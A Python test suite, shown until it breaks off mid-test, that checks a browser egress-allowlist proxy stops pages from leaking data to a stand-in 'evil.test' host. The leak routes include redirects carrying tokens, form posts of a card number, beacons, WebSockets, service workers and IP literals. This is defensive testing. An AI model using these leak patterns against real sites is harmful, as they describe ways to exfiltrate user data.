"""The egress allowlist holds below the page: real Chromium, a real proxy, two real sites.

``allowed.test`` and ``evil.test`` both live on 127.0.0.1 (on different ports) and get their names
through ``host_map``. Every leak test lists only the allowed site, makes the page reach for the
evil one some way, and asserts that the evil site accepted zero TCP connections and that the proxy
recorded the refusal. The chaining tests put a recording "corporate" proxy behind the allowlist
proxy, one that would let both sites through.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import logging
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from contextlib import asynccontextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page

from profiles import (
    PROXY_BYPASS,
    BlockedRequest,
    BrowserPool,
    EgressConflictError,
    EgressProxy,
    InvalidAllowlistError,
    ProfileSettings,
    ProxySettings,
    Session,
    UserError,
    open_session,
    parse_allowlist,
)
from runtime import Runtime
from runtime.errors import exit_code_for
from tests.support.sites import Site, free_port, js
from tests.support.wait import until

HOSTS = {"allowed.test": "127.0.0.1", "evil.test": "127.0.0.1"}
REFUSAL = "not on this session's egress allowlist"


@pytest.fixture
def allowed() -> Iterator[Site]:
    with Site("allowed") as site:
        yield site


@pytest.fixture
def evil() -> Iterator[Site]:
    with Site("evil") as site:
        yield site


@asynccontextmanager
async def session_for(
    rt: Runtime,
    allowed_domains: Sequence[str] = ("allowed.test",),
    settings: ProfileSettings | None = None,
    host_map: dict[str, str] | None = HOSTS,
    context_options: dict[str, Any] | None = None,
) -> AsyncIterator[Session]:
    """A session on a fresh profile with this allowlist."""
    await rt.profiles.create("egress", settings)
    async with open_session(
        rt.profiles,
        await rt.pool(),
        "egress",
        "t1",
        save_state=False,
        allowed_domains=allowed_domains,
        host_map=host_map,
        context_options=context_options,
    ) as session:
        yield session


async def proxy_and_page(session: Session) -> tuple[EgressProxy, Page]:
    """The session's proxy (there must be one) and a new page in it."""
    assert session.egress is not None
    return session.egress, await session.context.new_page()


# Resolves with the socket's first message, or "error"; the socket stays open in window.ws.
WS_FIRST_MESSAGE = """(url) => new Promise((ok) => {
    window.ws = new WebSocket(url);
    window.ws.onmessage = (e) => ok(e.data);
    window.ws.onerror = () => ok("error");
})"""


async def wait_blocked(
    proxy: EgressProxy, match: Callable[[BlockedRequest], bool], timeout_s: float = 5.0
) -> list[BlockedRequest]:
    """Wait until a refusal matching ``match`` is recorded; returns (and drains) all of them."""
    await until(
        lambda: any(match(b) for b in proxy.blocked),
        timeout_s,
        f"a matching refusal (blocked so far: {list(proxy.blocked)})",
    )
    return proxy.drain_blocked()


def to(site: Site, host: str = "evil.test") -> Callable[[BlockedRequest], bool]:
    """Matches a refusal of ``host`` on ``site``'s port."""
    return lambda b: b.host == host and b.port == site.port


async def load_allowed(page: Page, allowed: Site) -> None:
    """Load the allowed site's home (plain HTTP) and its WebSocket (a CONNECT tunnel)."""
    response = await page.goto(allowed.url("allowed.test"))
    assert response is not None and response.status == 200
    assert await page.title() == "allowed"
    message = await page.evaluate(WS_FIRST_MESSAGE, allowed.ws_url("allowed.test"))
    assert message == "hello from allowed"


# --- the allowed site still works -----------------------------------------------------------


async def test_allowed_site_loads_through_the_proxy(rt: Runtime, allowed: Site) -> None:
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        await load_allowed(page, allowed)
        data = await page.evaluate(
            "(u) => fetch(u).then(r => r.text())", allowed.url("allowed.test", "/data")
        )
        assert data == "data from allowed"
        assert egress.allowed_total >= 3
        assert egress.drain_blocked() == []
    assert "GET /" in allowed.requests


async def test_loopback_goes_through_the_proxy_not_around_it(rt: Runtime, allowed: Site) -> None:
    # Chromium bypasses proxies for loopback by default; "<-loopback>" must undo that, or an
    # allowlist could never stop http://127.0.0.1:PORT.
    async with session_for(rt, ["127.0.0.1"], host_map=None) as session:
        egress, page = await proxy_and_page(session)
        response = await page.goto(allowed.url("127.0.0.1"))
        assert response is not None and response.status == 200
        assert egress.allowed_total >= 1


# --- every way out to the evil site is closed -------------------------------------------------


async def test_redirect_to_an_unlisted_host_is_blocked(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        target = evil.url("evil.test", "/stolen?token=abc")
        response = await page.goto(allowed.url("allowed.test", f"/redirect?to={target}"))
        assert response is not None and response.status == 403
        assert REFUSAL in await page.content()
        blocked = await wait_blocked(egress, to(evil))
        # (Chromium then also asks for the error page's favicon: blocked as well.)
        assert target in [b.url for b in blocked if to(evil)(b)]
    assert evil.connections == 0
    assert "GET /redirect?to=" + target in allowed.requests


async def test_popup_to_an_unlisted_host_is_blocked(rt: Runtime, allowed: Site, evil: Site) -> None:
    allowed.page(
        "/popup", f"<button onclick='window.open({js(evil.url('evil.test'))})'>Open</button>"
    )
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        await page.goto(allowed.url("allowed.test", "/popup"))
        async with session.context.expect_page() as info:
            await page.click("text=Open")
        popup = await info.value
        await popup.wait_for_load_state()
        assert REFUSAL in await popup.content()
        await wait_blocked(egress, to(evil))
    assert evil.connections == 0


async def test_iframe_from_an_unlisted_host_is_blocked(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    allowed.page("/frame", f"<h1>Host</h1><iframe src={js(evil.url('evil.test'))}></iframe>")
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        await page.goto(allowed.url("allowed.test", "/frame"))
        await wait_blocked(egress, to(evil))
        frame = page.frames[1]
        await frame.wait_for_load_state()
        assert REFUSAL in await frame.content()
    assert evil.connections == 0


async def test_service_workers_cannot_register_and_page_fetches_stay_blocked(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    # 127.0.0.1 is a secure context over plain http, so service workers would be available;
    # the entry with a port also shows that another port on the same address stays closed.
    sw_target = evil.url("evil.test", "/from-sw")
    allowed.page(
        "/sw",
        f"""<script>
        window.result = (async () => {{
            const reg = await navigator.serviceWorker.register("/sw.js?target=" +
                encodeURIComponent({js(sw_target)}));
            await new Promise((ok) => setTimeout(ok, 500));
            const regs = await navigator.serviceWorker.getRegistrations();
            const fetched = await Promise.all([{js(evil.url("evil.test", "/data"))},
                {js(evil.url("127.0.0.1", "/data"))}].map(
                (u) => fetch(u).then(() => "ok", () => "error")));
            return {{reg: String(reg), registrations: regs.length, fetched}};
        }})();
        </script>""",
    )
    async with session_for(rt, [f"127.0.0.1:{allowed.port}"]) as session:
        egress, page = await proxy_and_page(session)
        await page.goto(allowed.url("127.0.0.1", "/sw"))
        result = await page.evaluate("window.result")
        assert result == {"reg": "undefined", "registrations": 0, "fetched": ["error", "error"]}
        blocked = await wait_blocked(egress, to(evil, "127.0.0.1"))
        assert {(b.host, b.port) for b in blocked} == {
            ("evil.test", evil.port),
            ("127.0.0.1", evil.port),
        }
    assert evil.connections == 0
    assert "GET /sw.js" not in " ".join(allowed.requests)


async def test_a_registered_service_worker_is_still_behind_the_proxy(
    pool: BrowserPool, allowed: Site, evil: Site
) -> None:
    # Belt and braces: even with service workers allowed, a worker's own fetch goes through the
    # context's proxy (the network is below the worker, not beside it).
    sw_target = evil.url("evil.test", "/from-sw")
    allowed.page(
        "/sw",
        f"""<script>navigator.serviceWorker.register("/sw.js?target=" +
            encodeURIComponent({js(sw_target)}));</script>""",
    )
    async with EgressProxy.start([f"127.0.0.1:{allowed.port}"], HOSTS) as proxy:
        browser = await pool.browser()
        context = await browser.new_context(
            proxy={"server": proxy.url, "bypass": PROXY_BYPASS}, service_workers="allow"
        )
        try:
            page = await context.new_page()
            await page.goto(allowed.url("127.0.0.1", "/sw"))
            blocked = await wait_blocked(proxy, to(evil))
            assert any(b.url == sw_target for b in blocked)
            assert "GET /sw.js?target=" in " ".join(allowed.requests)
        finally:
            await context.close()
    assert evil.connections == 0


async def test_fetch_xhr_and_beacons_to_an_unlisted_host_are_blocked(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        await page.goto(allowed.url("allowed.test"))
        result = await page.evaluate(
            """async (base) => ({
                fetch: await fetch(base + "?via=fetch").then(() => "ok", () => "error"),
                post: await fetch(base + "?via=post", {method: "POST", body: "secret"})
                    .then(() => "ok", () => "error"),
                xhr: await new Promise((ok) => {
                    const req = new XMLHttpRequest();
                    req.open("GET", base + "?via=xhr");
                    req.onload = () => ok(req.status);
                    req.onerror = () => ok("error");
                    req.send();
                }),
                beacon: navigator.sendBeacon(base + "?via=beacon", "secret"),
            })""",
            evil.url("evil.test", "/data"),
        )
        assert result == {"fetch": "error", "post": "error", "xhr": "error", "beacon": True}
        await wait_blocked(egress, lambda b: (b.url or "").endswith("beacon"))
    assert evil.connections == 0


async def test_websocket_to_an_unlisted_host_is_blocked(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        await page.goto(allowed.url("allowed.test"))
        assert await page.evaluate(WS_FIRST_MESSAGE, evil.ws_url("evil.test")) == "error"
        blocked = await wait_blocked(egress, to(evil))
        # Chromium tunnels even plain ws:// through CONNECT, so the proxy sees no URL.
        assert [(b.method, b.url) for b in blocked if to(evil)(b)] == [("CONNECT", None)]
    assert evil.connections == 0


async def test_ip_literals_and_localhost_not_on_the_list_are_blocked(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        # 2130706433 is 127.0.0.1 written as one number; the browser canonicalises it.
        for host in ("127.0.0.1", "localhost", "2130706433", "127.1"):
            response = await page.goto(evil.url(host))
            assert response is not None and response.status == 403, host
        blocked = await wait_blocked(egress, to(evil, "localhost"))
        urls = {b.url for b in blocked if b.port == evil.port}
        assert {evil.url("127.0.0.1"), evil.url("localhost")} <= urls
    assert evil.connections == 0


async def test_form_post_to_an_unlisted_host_is_blocked(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    allowed.page(
        "/form",
        f"""<form method=post action={js(evil.url("evil.test", "/submit"))}>
        <input name=card value=4111111111111111><button>Send</button></form>""",
    )
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        await page.goto(allowed.url("allowed.test", "/form"))
        async with page.expect_navigation():
            await page.click("text=Send")
        assert REFUSAL in await page.content()
        blocked = await wait_blocked(egress, to(evil))
        # Chromium's own autofill queries (to googleapis.com) come through here too, and are
        # refused as well; only the evil site's entries matter.
        assert ("POST", evil.url("evil.test", "/submit")) in [
            (b.method, b.url) for b in blocked if to(evil)(b)
        ]
    assert evil.connections == 0


async def test_persistent_profiles_are_held_too(rt: Runtime, allowed: Site, evil: Site) -> None:
    # launch_persistent_context takes the proxy as a launch option (--proxy-server), not a
    # per-context one: a different path through Playwright.
    async with session_for(rt, settings=ProfileSettings(mode="persistent")) as session:
        egress, page = await proxy_and_page(session)
        response = await page.goto(allowed.url("allowed.test"))
        assert response is not None and response.status == 200
        await page.goto(allowed.url("allowed.test", f"/redirect?to={evil.url('evil.test')}"))
        await page.goto(evil.url("127.0.0.1"))
        blocked = await wait_blocked(egress, to(evil, "127.0.0.1"))
        # A persistent context's browser sends its own background traffic (update checks,
        # accounts) through the launch-level proxy as well: refused like the rest.
        assert {b.host for b in blocked if b.port == evil.port} == {"evil.test", "127.0.0.1"}
    assert evil.connections == 0


async def test_webrtc_offers_no_unproxied_udp(rt: Runtime, allowed: Site) -> None:
    async with session_for(rt) as session:
        page = await session.context.new_page()
        await page.goto(allowed.url("allowed.test"))
        candidates = await page.evaluate(
            """async () => {
                const pc = new RTCPeerConnection({iceServers: []});
                pc.createDataChannel("x");
                const found = [];
                const done = new Promise((ok) => {
                    pc.onicecandidate = (e) =>
                        e.candidate ? found.push(e.candidate.candidate) : ok();
                    setTimeout(ok, 3000);
                });
                await pc.setLocalDescription(await pc.createOffer());
                await done;
                pc.close();
                return found;
            }"""
        )
    assert [c for c in candidates if " udp " in c.lower()] == []


# --- lifecycle and configuration --------------------------------------------------------------


async def test_the_proxy_closes_with_the_session_and_leaves_no_tasks(
    rt: Runtime, allowed: Site
) -> None:
    async with session_for(rt) as session:
        egress, page = await proxy_and_page(session)
        await page.goto(allowed.url("allowed.test"))
        # A WebSocket still open when the session ends: its tunnel must not outlive it.
        message = await page.evaluate(WS_FIRST_MESSAGE, allowed.ws_url("allowed.test"))
        assert message == "hello from allowed"
        assert egress.open_connections >= 1
    assert egress.open_connections == 0
    with pytest.raises(OSError):
        await asyncio.open_connection("127.0.0.1", egress.port)
    leftover = [t for t in asyncio.all_tasks() if "egress" in repr(t.get_coro())]
    assert leftover == []


async def test_closing_the_proxy_ends_open_tunnels(allowed: Site) -> None:
    async with EgressProxy.start(["allowed.test"], HOSTS) as proxy:
        reader, writer = await asyncio.open_connection("127.0.0.1", proxy.port)
        writer.write(f"CONNECT allowed.test:{allowed.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert await reader.readline() == b"HTTP/1.1 200 Connection established\r\n"
        await reader.readline()
        assert proxy.open_connections == 1
    assert proxy.open_connections == 0
    assert await asyncio.wait_for(reader.read(), 5) == b""  # closed by the proxy, not hung
    writer.close()


async def test_empty_allowlist_means_no_proxy(rt: Runtime, allowed: Site, evil: Site) -> None:
    # host_map alone still names the sites, through the browser's own resolver.
    async with session_for(rt, allowed_domains=()) as session:
        assert session.egress is None
        page = await session.context.new_page()
        response = await page.goto(evil.url("evil.test"))
        assert response is not None and response.status == 200
        assert await page.title() == "evil"
    assert evil.connections >= 1


@pytest.mark.parametrize(
    ("entry", "says"),
    [
        ("", "empty"),
        ("*", "leave the allowlist empty"),
        ("ftp://files.example", "scheme 'ftp'"),
        ("portal.example:0", "port '0'"),
        ("portal.example:http", "port 'http'"),
        ("user@portal.example", "credentials"),
        ("bad host.example", "expected a host name"),
        ("*.*.example", "expected a host name"),
        ("*.10.0.0.1", "expected a host name"),
        ("[::1", "expected a host name"),
        ("-bad.example", "expected a host name"),
    ],
)
def test_invalid_entries_are_named_with_what_was_expected(entry: str, says: str) -> None:
    with pytest.raises(InvalidAllowlistError) as caught:
        parse_allowlist(["ok.example", entry])
    assert isinstance(caught.value, UserError) and exit_code_for(caught.value) == 2
    assert repr(entry) in str(caught.value) and says in str(caught.value)


async def test_an_invalid_allowlist_fails_before_the_session_opens(rt: Runtime) -> None:
    with pytest.raises(InvalidAllowlistError, match="'https://'"):
        async with session_for(rt, ["allowed.test", "https://"]):
            pytest.fail("the session must not open")
    # Nothing was leased: the profile opens right away.
    async with open_session(rt.profiles, await rt.pool(), "egress", "t2", lease_wait_s=0):
        pass


@pytest.mark.parametrize(
    ("entries", "host", "port", "allowed"),
    [
        (["Portal.Example"], "portal.example", 443, True),
        (["portal.example"], "PORTAL.EXAMPLE.", 80, True),
        (["portal.example"], "evil.example", 443, False),
        (["portal.example"], "portal.example.evil.test", 443, False),
        (["*.example.com"], "a.b.example.com", 443, True),
        (["*.example.com"], "example.com", 443, False),  # the bare domain is not included
        (["*.example.com"], "badexample.com", 443, False),
        (["127.0.0.1:8080"], "127.0.0.1", 8080, True),
        (["127.0.0.1:8080"], "127.0.0.1", 8081, False),
        (["127.0.0.1"], "127.1", 9, True),  # the same address, as the browser would write it
        (["https://portal.example/login?x=1"], "portal.example", 8443, True),
        (["https://portal.example:8443"], "portal.example", 443, False),
        (["[::1]:8080"], "[::1]", 8080, True),
        (["::1"], "[0:0::1]", 1, True),
        (["[::1]"], "[::2]", 1, False),
        (["*.example.com"], "10.0.0.1", 443, False),
    ],
)
def test_matching_rules(entries: list[str], host: str, port: int, allowed: bool) -> None:
    assert EgressProxy(parse_allowlist(entries)).allows(host, port) is allowed


# --- the proxy itself, spoken to directly -----------------------------------------------------


async def exchange(proxy: EgressProxy, data: bytes, eof: bool = False) -> bytes:
    """Send ``data`` to the proxy and read until it closes the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", proxy.port)
    try:
        writer.write(data)
        if eof:
            writer.write_eof()
        return await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()


@pytest.mark.parametrize(
    ("data", "eof"),
    [
        (b"garbage\r\n\r\n", False),
        (b"\x00\xff\xfe\r\n\r\n", False),
        (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", False),  # origin form: not a proxy request
        (b"CONNECT allowed.test HTTP/1.1\r\nHost: x\r\n\r\n", False),  # no port
        (b"GET ftp://allowed.test/ HTTP/1.1\r\nHost: x\r\n\r\n", False),
        (b"GET http://allowed.test/ HTTP/1.1\r\nX: " + b"a" * 70_000 + b"\r\n\r\n", False),
        (b"GET http://allowed.test/ HT", True),  # cut off
    ],
)
async def test_malformed_input_gets_400_and_the_proxy_keeps_serving(
    allowed: Site, data: bytes, eof: bool
) -> None:
    async with EgressProxy.start(["allowed.test"], HOSTS) as proxy:
        answer = await exchange(proxy, data, eof)
        assert answer.startswith(b"HTTP/1.1 400 Bad Request\r\n")
        assert b"Connection: close" in answer
        ok = await exchange(
            proxy, f"GET {allowed.url('allowed.test')} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        )
        assert ok.startswith(b"HTTP/1.1 200 OK\r\n") and ok.endswith(b"allowed home</h1>")
        assert proxy.drain_blocked() == []
    assert allowed.connections == 1


async def test_a_reused_connection_never_reaches_a_second_host(allowed: Site, evil: Site) -> None:
    # A client may keep a proxy connection alive and send the next request for another host on
    # it; that request must not reach that host. Both answers come from the first host's server
    # (which was told "Connection: close" and stops after one).
    async with EgressProxy.start(["allowed.test", "evil.test"], HOSTS) as proxy:
        answer = await exchange(
            proxy,
            (
                f"GET {allowed.url('allowed.test', '/data')} HTTP/1.1\r\nHost: x\r\n"
                "Proxy-Connection: keep-alive\r\n\r\n"
                f"GET {evil.url('evil.test', '/data')} HTTP/1.1\r\nHost: y\r\n\r\n"
            ).encode(),
        )
    assert answer.count(b"HTTP/1.1 ") == 1 and answer.endswith(b"data from allowed")
    assert allowed.requests == ["GET /data"]
    assert evil.connections == 0


async def test_unreachable_upstream_gets_502() -> None:
    port = free_port()
    async with EgressProxy.start([f"allowed.test:{port}"], HOSTS) as proxy:
        answer = await exchange(
            proxy, f"CONNECT allowed.test:{port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        )
    assert answer.startswith(b"HTTP/1.1 502 Bad Gateway\r\n")


async def test_blocked_requests_are_recorded_and_drained(evil: Site) -> None:
    async with EgressProxy.start(["allowed.test"], HOSTS) as proxy:
        long_url = evil.url("evil.test", "/" + "x" * 5000)
        answer = await exchange(
            proxy, f"POST {long_url} HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc".encode()
        )
        assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
        answer = await exchange(
            proxy, f"CONNECT EVIL.test:{evil.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        )
        assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
        first, second = proxy.drain_blocked()
        assert (first.method, first.host, first.port) == ("POST", "evil.test", evil.port)
        assert first.url is not None and len(first.url) == 2048 and long_url.startswith(first.url)
        assert (second.method, second.host, second.url) == ("CONNECT", "evil.test", None)
        assert second.at >= first.at
        assert proxy.drain_blocked() == []
        assert proxy.blocked_total == 2 and proxy.allowed_total == 0
    assert evil.connections == 0


# --- chaining through the profile's own proxy -------------------------------------------------

PASSWORD = "hunter2-proxy-secret"


async def _copy_to(src: asyncio.StreamReader, dst: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError, RuntimeError):
        while data := await src.read(65536):
            dst.write(data)
            await dst.drain()
        dst.write_eof()


class RecordingProxy:
    """A stand-in for a corporate proxy: records every request head, answers 407 unless the
    expected credentials come with it, and hands the connection to ``inner`` (an EgressProxy
    that lets both fixture sites through, so a leak past the allowlist would reach evil)."""

    def __init__(self, inner: EgressProxy, credentials: tuple[str, str] | None) -> None:
        self.inner = inner
        self.expected = None
        if credentials is not None:
            self.expected = "Basic " + base64.b64encode(":".join(credentials).encode()).decode()
        self.heads: list[str] = []
        self.port = 0
        self._tasks: set[asyncio.Task[None]] = set()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def targets(self) -> list[str]:
        """``host:port`` of every request received (CONNECT or absolute-form)."""
        found = []
        for head in self.heads:
            method, target, _ = head.split("\r\n", 1)[0].split(" ")
            found.append(target if method == "CONNECT" else urlsplit(target).netloc)
        return found

    def head(self, request_line: str) -> dict[str, str]:
        """The headers (lower-case names) of the request that began with ``request_line``."""
        for head in self.heads:
            first, *lines = head.strip().split("\r\n")
            if first.startswith(request_line):
                return {k.lower(): v for k, v in (line.split(": ", 1) for line in lines)}
        raise AssertionError(f"no {request_line!r} in {self.heads}")

    @asynccontextmanager
    async def serving(self) -> AsyncIterator[RecordingProxy]:
        server = await asyncio.start_server(self._accept, "127.0.0.1", 0)
        self.port = server.sockets[0].getsockname()[1]
        try:
            yield self
        finally:
            server.close()
            for task in self._tasks:
                task.cancel()
            await asyncio.gather(*self._tasks, return_exceptions=True)
            await server.wait_closed()

    def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.create_task(self._handle(reader, writer))
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            self.heads.append(head.decode("latin-1"))
            auth = self.head(head.decode("latin-1").split("\r\n", 1)[0]).get("proxy-authorization")
            if self.expected is not None and auth != self.expected:
                writer.write(
                    b"HTTP/1.1 407 Proxy Authentication Required\r\n"
                    b'Proxy-Authenticate: Basic realm="corp"\r\nContent-Length: 0\r\n\r\n'
                )
                await writer.drain()
                return
            up_reader, up_writer = await asyncio.open_connection("127.0.0.1", self.inner.port)
            try:
                up_writer.write(head)
                async with asyncio.TaskGroup() as group:
                    group.create_task(_copy_to(reader, up_writer))
                    group.create_task(_copy_to(up_reader, writer))
            finally:
                up_writer.transport.abort()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.transport.abort()


@asynccontextmanager
async def corporate_proxy(
    credentials: tuple[str, str] | None = None,
) -> AsyncIterator[RecordingProxy]:
    """A recording upstream proxy that would let both fixture sites through."""
    async with (
        EgressProxy.start(["allowed.test", "evil.test"], HOSTS) as inner,
        RecordingProxy(inner, credentials).serving() as upstream,
    ):
        yield upstream


def chained(upstream: RecordingProxy, **credentials: str) -> ProfileSettings:
    """Profile settings with ``upstream`` as the profile's own proxy."""
    return ProfileSettings(proxy=ProxySettings(server=upstream.url, **credentials))


async def test_a_profile_proxy_is_chained_behind_the_allowlist(rt: Runtime, allowed: Site) -> None:
    async with corporate_proxy() as upstream:
        async with session_for(rt, settings=chained(upstream)) as session:
            egress, page = await proxy_and_page(session)
            await load_allowed(page, allowed)
            assert egress.allowed_total >= 2 and egress.drain_blocked() == []
        # Plain HTTP went upstream in absolute form and the WebSocket as a CONNECT, both by
        # name (host_map is not applied when chaining: the upstream resolves).
        get = upstream.head(f"GET http://allowed.test:{allowed.port}/ HTTP/1.1")
        assert get["host"] == f"allowed.test:{allowed.port}"
        assert get["connection"] == "close" and "proxy-connection" not in get
        assert "proxy-authorization" not in get  # none configured
        connect = upstream.head(f"CONNECT allowed.test:{allowed.port} HTTP/1.1")
        assert connect["host"] == f"allowed.test:{allowed.port}"
        assert upstream.inner.allowed_total == len(upstream.heads) >= 2
    assert "GET /" in allowed.requests and "GET /ws" in allowed.requests


async def test_an_unlisted_host_never_reaches_the_upstream_proxy(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    async with corporate_proxy() as upstream:
        async with session_for(rt, settings=chained(upstream)) as session:
            egress, page = await proxy_and_page(session)
            target = evil.url("evil.test", "/stolen")
            response = await page.goto(allowed.url("allowed.test", f"/redirect?to={target}"))
            assert response is not None and response.status == 403
            assert REFUSAL in await page.content()
            assert await page.evaluate(WS_FIRST_MESSAGE, evil.ws_url("evil.test")) == "error"
            response = await page.goto(evil.url("127.0.0.1"))
            assert response is not None and response.status == 403
            blocked = await wait_blocked(egress, to(evil, "127.0.0.1"))
            assert {("evil.test", "CONNECT"), ("evil.test", "GET"), ("127.0.0.1", "GET")} <= {
                (b.host, b.method) for b in blocked if b.port == evil.port
            }
        # The upstream saw the allowed site only (Chromium's own calls were refused as well).
        assert set(upstream.targets) == {f"allowed.test:{allowed.port}"}
        assert upstream.inner.blocked_total == 0
    assert "GET /redirect?to=" + target in allowed.requests
    assert evil.connections == 0


async def test_upstream_credentials_go_upstream_and_nowhere_else(
    rt: Runtime, allowed: Site, evil: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="profiles")
    async with corporate_proxy(("corp-user", PASSWORD)) as upstream:
        settings = chained(upstream, username="corp-user", password=PASSWORD)
        async with session_for(rt, settings=settings) as session:
            egress, page = await proxy_and_page(session)
            await load_allowed(page, allowed)
            response = await page.goto(evil.url("evil.test"))
            assert response is not None and response.status == 403
            blocked = await wait_blocked(egress, to(evil))
            seen = [
                repr(settings),
                repr(session.profile),
                repr(vars(egress)),
                *(b.model_dump_json() for b in blocked),
                await page.content(),
            ]
        assert len(upstream.heads) >= 2
        assert all(upstream.expected in head for head in upstream.heads)
        assert upstream.inner.allowed_total == len(upstream.heads)
    token = upstream.expected.split()[1]
    for text in [*seen, caplog.text]:
        assert PASSWORD not in text and token not in text
    assert evil.connections == 0


async def test_an_upstream_407_fails_the_load_with_a_clear_502(
    rt: Runtime, allowed: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="profiles")
    async with corporate_proxy(("corp-user", "the-right-one")) as upstream:
        settings = chained(upstream, username="corp-user", password=PASSWORD)
        async with session_for(rt, settings=settings) as session:
            egress, page = await proxy_and_page(session)
            response = await page.goto(allowed.url("allowed.test"))
            assert response is not None and response.status == 502
            text = await page.content()
            assert "upstream proxy refused" in text and "407 Proxy Authentication Required" in text
            assert await page.evaluate(WS_FIRST_MESSAGE, allowed.ws_url("allowed.test")) == "error"
            answer = await exchange(
                egress, f"CONNECT allowed.test:{allowed.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            )
            assert answer.startswith(b"HTTP/1.1 502 Bad Gateway\r\n")
            assert b"407 Proxy Authentication Required" in answer
        assert upstream.inner.allowed_total == 0
    assert allowed.connections == 0
    for seen in (text, answer.decode(), caplog.text):
        assert PASSWORD not in seen


async def test_an_unreachable_upstream_proxy_fails_the_load_clearly(
    rt: Runtime, allowed: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="profiles")
    proxy = ProxySettings(server=f"http://127.0.0.1:{free_port()}", username="u", password=PASSWORD)
    async with session_for(rt, settings=ProfileSettings(proxy=proxy)) as session:
        egress, page = await proxy_and_page(session)
        response = await page.goto(allowed.url("allowed.test"))
        assert response is not None and response.status == 502
        text = await page.content()
        assert "could not connect to the upstream proxy" in text
        answer = await exchange(
            egress, f"CONNECT allowed.test:{allowed.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        )
        assert answer.startswith(b"HTTP/1.1 502 Bad Gateway\r\n")
        assert b"could not connect to the upstream proxy" in answer
        assert egress.allowed_total == 0
    assert allowed.connections == 0
    for seen in (text, caplog.text):
        assert PASSWORD not in seen


async def test_an_upstream_refusal_is_passed_on_as_502_with_its_status(
    allowed: Site, evil: Site
) -> None:
    # Our list allows evil.test, the upstream's does not: its 403 to the CONNECT becomes a 502.
    async with EgressProxy.start(["allowed.test"], HOSTS) as corp:
        upstream = ProxySettings(server=corp.url)
        async with EgressProxy.start(["allowed.test", "evil.test"], upstream=upstream) as proxy:
            answer = await exchange(
                proxy, f"CONNECT evil.test:{evil.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            )
            assert answer.startswith(b"HTTP/1.1 502 Bad Gateway\r\n")
            assert answer.endswith(f"refused evil.test:{evil.port} with status 403".encode())
            # Plain HTTP: the upstream's own answer reaches the client as it is.
            answer = await exchange(
                proxy, f"GET {evil.url('evil.test')} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            )
            assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
            ours = await exchange(
                proxy, f"GET {allowed.url('127.1')} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            )
            assert REFUSAL.encode() in ours  # not on our list: refused here, not upstream
            # Only the GET was let through: a tunnel the upstream refused never opened.
            assert proxy.allowed_total == 1 and proxy.blocked_total == 1
        assert [(b.host, b.method) for b in corp.drain_blocked()] == [
            ("evil.test", "CONNECT"),
            ("evil.test", "GET"),
        ]
    assert evil.connections == 0


async def test_an_upstream_that_hangs_up_gets_502(allowed: Site) -> None:
    async def hang_up(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.close()

    mute = await asyncio.start_server(hang_up, "127.0.0.1", 0)
    upstream = ProxySettings(server=f"127.0.0.1:{mute.sockets[0].getsockname()[1]}")
    try:
        async with EgressProxy.start(["allowed.test"], upstream=upstream) as proxy:
            answer = await exchange(
                proxy, f"CONNECT allowed.test:{allowed.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            )
    finally:
        mute.close()
        await mute.wait_closed()
    assert answer.startswith(b"HTTP/1.1 502 Bad Gateway\r\n")
    assert answer.endswith(f"gave no valid answer for allowed.test:{allowed.port}".encode())
    assert allowed.connections == 0


async def test_the_proxy_in_context_options_is_chained_too(rt: Runtime, allowed: Site) -> None:
    async with corporate_proxy(("corp-user", PASSWORD)) as upstream:
        own = {"server": upstream.url, "username": "corp-user", "password": PASSWORD}
        async with session_for(rt, context_options={"proxy": own}) as session:
            page = await session.context.new_page()
            response = await page.goto(allowed.url("allowed.test"))
            assert response is not None and response.status == 200
        get = upstream.head(f"GET http://allowed.test:{allowed.port}/ ")
